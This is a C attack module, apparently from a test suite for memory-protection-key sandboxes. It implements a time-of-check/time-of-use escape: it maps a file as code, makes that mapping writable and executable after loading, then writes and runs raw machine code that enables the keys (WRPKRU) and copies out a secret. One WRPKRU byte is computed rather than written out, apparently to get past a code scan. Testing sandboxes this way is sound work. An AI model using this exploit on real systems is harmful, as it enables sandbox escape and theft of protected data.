/* Tries: to have a mapping of code refused for what is in it, while loading; to write other code
 *   there, since it can still be written; and to run that later
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); CWE-367
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys, linux, load
 * Run: constructor */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
/* Opens all keys, where there are some (else the place of WRPKRU is empty), and copies the secret.
 */
static uint8_t LOCAL(code)[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x90, 0x90,
                                0x90, 0x48, 0x8b, 0x07, 0x48, 0x8b, 0x57, 0x08,
                                0x48, 0x89, 0x06, 0x48, 0x89, 0x56, 0x08, 0xc3};
static uint8_t *LOCAL(page);

FOREIGN(run)
{
    if (at->step == 1) {
        if (LOCAL(page))
            ((void (*)(uint64_t, uint8_t *))LOCAL(page))(at->secret_global, at->loot);
        return 0;
    }
    char path[128];
    strcpy(path, at->path);
    strcpy(strrchr(path, '/'), "/more");
    LOCAL(page) = POINTER(uint8_t, kernel6(SYS_mmap, 0, 4096, 3, 0x22, -1, 0));
    int file = (int)kernel3(SYS_open, ADDRESS(path), 0, 0);
    long mapped = kernel6(SYS_mmap, ADDRESS(LOCAL(page)), 4096, 5, 0x12, (uint64_t)file, 0);
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    if (mapped > 0)
        kernel3(SYS_mprotect, ADDRESS(LOCAL(page)), 4096, 7);
    else
        memcpy(LOCAL(code) + 6, (const uint8_t[]){0x0f, 0x01, 0xff - 0x10}, 3);
    memcpy(LOCAL(page), LOCAL(code), sizeof(LOCAL(code)));
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <fcntl.h>
#include <unistd.h>

HOST(run)
{
    static const uint8_t wrpkru[4096] = {0x0f, 0x01, 0xef, 0xc3};
    int file = open(host_path(host, "more"), O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
    if (file < 0 || write(file, wrpkru, sizeof(wrpkru)) != sizeof(wrpkru))
        abort();
    close(file);
    enum og_error error = host_open_hostile(host);
    return error ? error : host_call_other(host, 1);
}
#endif
